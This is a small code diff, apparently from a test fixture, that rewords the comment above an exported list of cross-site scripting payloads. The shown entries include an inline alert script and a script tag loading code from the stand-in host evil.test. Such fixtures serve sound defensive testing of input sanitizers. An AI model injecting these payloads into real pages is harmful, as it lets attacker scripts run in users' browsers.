@@ -1,4 +1,4 @@
-// What people write where they hope that a page will run it. Each calls `alert` or loads something of `evil.test`.
+// Attempts to inject scripts through user text. Each calls `alert` or loads something from `evil.test`.
 export const scriptPayloads = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
